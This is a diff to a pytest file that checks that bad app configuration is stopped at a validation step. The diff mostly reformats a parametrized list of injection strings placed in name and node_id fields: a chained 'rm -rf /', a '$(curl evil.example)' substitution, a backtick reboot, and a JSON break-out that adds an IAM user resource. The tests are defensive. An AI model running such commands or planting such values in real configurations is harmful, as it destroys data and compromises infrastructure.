@@ -1,4 +1,5 @@
 """Bad configuration from the app stops at `validate`: clear message, failure notified, nothing deployed."""
+
 from __future__ import annotations
 
 import pytest
@@ -38,12 +39,15 @@ def test_wrong_kind_wiring_names_both_ends(make_runner, receiver, state_dir, exa
     assert_stopped_at_validate(run, receiver, state_dir, "clean", "serve")
 
 
-@pytest.mark.parametrize("field, value", [
-    ("name", "churn; rm -rf /"),
-    ("name", "$(curl evil.example)"),
-    ("node_id", "x`reboot`"),
-    ("node_id", "a\"}],\"resource\":{\"aws_iam_user\":{\"x\":{}}}"),
-])
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("name", "churn; rm -rf /"),
+        ("name", "$(curl evil.example)"),
+        ("node_id", "x`reboot`"),
+        ("node_id", 'a"}],"resource":{"aws_iam_user":{"x":{}}}'),
+    ],
+)
 def test_injection_strings(make_runner, receiver, state_dir, example_config, field, value):
     if field == "name":
         example_config["metadata"]["name"] = value
